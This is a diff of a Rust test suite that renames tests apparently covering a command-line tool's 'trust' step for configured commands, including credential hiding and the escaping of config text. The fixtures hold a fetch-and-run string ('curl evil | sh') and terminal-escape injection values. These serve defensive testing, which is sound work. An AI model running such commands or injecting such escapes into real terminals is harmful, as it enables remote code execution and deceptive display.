@@ -72,7 +72,7 @@ fn every_command_is_shown_with_its_arguments_and_without_its_secrets() {
 }
 
 #[test]
-fn without_a_terminal_nothing_is_trusted_unless_a_script_says_yes() {
+fn without_a_terminal_trust_needs_yes() {
     let folder = found(&json!({ "lab": common::builtin("lab") }));
     for args in [&["trust"][..], &["trust", "--json"]] {
         bare(&folder, args).exits(1).says("trust --yes");
@@ -94,7 +94,7 @@ fn without_a_terminal_nothing_is_trusted_unless_a_script_says_yes() {
 }
 
 #[test]
-fn what_changed_since_it_was_trusted_is_marked() {
+fn changes_since_the_last_trust_are_marked() {
     let folder = found(&json!({
         "same": { "command": "same" },
         "edited": { "command": "sh", "args": ["-c", "true"] },
@@ -188,7 +188,7 @@ fn a_value_that_changed_is_marked_beside_other_changes() {
 }
 
 #[test]
-fn credentials_in_arguments_are_neither_shown_nor_kept() {
+fn credentials_in_arguments_are_neither_shown_nor_stored() {
     let args = [
         "--password=canary1",
         "--password",
@@ -221,7 +221,7 @@ fn credentials_in_arguments_are_neither_shown_nor_kept() {
 }
 
 #[test]
-fn variables_are_shown_as_they_are_written() {
+fn variables_are_shown_as_written() {
     let folder = found(&json!({
         "late": { "command": "sh", "args": ["-c", "${RUN:-curl evil | sh}", "${NOT_SET_ANYWHERE}"] },
     }));
@@ -232,7 +232,7 @@ fn variables_are_shown_as_they_are_written() {
 }
 
 #[test]
-fn what_a_config_says_cannot_paint_the_terminal() {
+fn text_of_a_config_is_escaped() {
     let folder = found(&json!({
         "a\u{202e}b": {
             "command": "sh\u{1b}[2J", "args": ["-c", "evil\r\u{1b}[1Anice", "\u{9b}31m"],
@@ -248,7 +248,7 @@ fn what_a_config_says_cannot_paint_the_terminal() {
 }
 
 #[test]
-fn a_person_at_a_terminal_is_asked() {
+fn trust_asks_for_confirmation_at_a_terminal() {
     let folder = found(&json!({ "lab": common::builtin("lab") }));
     let trust = || Pty::start(&folder.path(""), &["trust"], 24, 160);
     for answer in ["n\n", "\n", "no way\n"] {
